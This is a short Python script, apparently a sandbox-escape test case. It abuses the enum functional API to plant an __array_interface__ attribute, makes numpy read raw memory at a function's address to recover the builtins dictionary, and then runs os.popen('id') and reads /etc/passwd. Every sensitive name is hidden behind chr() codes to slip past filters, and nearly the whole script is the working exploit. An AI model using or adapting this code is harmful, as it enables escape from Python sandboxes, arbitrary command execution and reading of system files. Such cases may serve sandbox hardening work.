# source: Python enum docs "Functional API" (EnumType.__call__ -> _create_ on a member-less Enum subclass); numpy array interface protocol
# family: enum functional API through a script's own member-less Enum subclass: names given at run time; a dunder name becomes a plain class attribute
# goal: __array_interface__ on an enum class -> object array at func address+24 (func_builtins) -> builtins -> os.popen("id"), /etc/passwd
import enum
import numpy as np


class Base(enum.Enum):
    pass


def probe():
    return 1


def w(*codes):
    return "".join(map(chr, codes))


u = chr(95) * 2
key = u + "array" + chr(95) + "interface" + u
addr = int(repr(probe).split()[-1].rstrip(">"), 16)
spec = {"shape": (1,), "typestr": "|O8", "data": (addr + 24, False), "version": 3}
Z = Base("Z", [(key, spec), ("a", 1)])
arr = np.asarray(Z.a)
bi = arr[0]
print(type(bi), len(bi))
imp = bi[u + "import" + u]
ga = bi[w(103, 101, 116, 97, 116, 116, 114)]
osm = imp(w(111, 115))
print(osm)
print(ga(osm, w(112, 111, 112, 101, 110))(w(105, 100)).read())
print(bi[w(111, 112, 101, 110)](w(47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100)).read()[:200])
